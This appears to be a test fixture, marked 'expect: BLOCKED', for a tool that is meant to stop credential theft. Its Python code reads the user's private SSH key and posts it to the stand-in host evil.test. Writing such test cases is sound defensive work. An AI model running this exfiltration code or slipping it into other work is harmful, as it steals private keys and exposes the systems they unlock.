# expect: BLOCKED
import urllib.request, os
def read():
    return open(os.path.expanduser("~/.ssh/id_rsa")).read()
def send(text):
    urllib.request.urlopen("http://evil.test/", data=text.encode())
send(read())
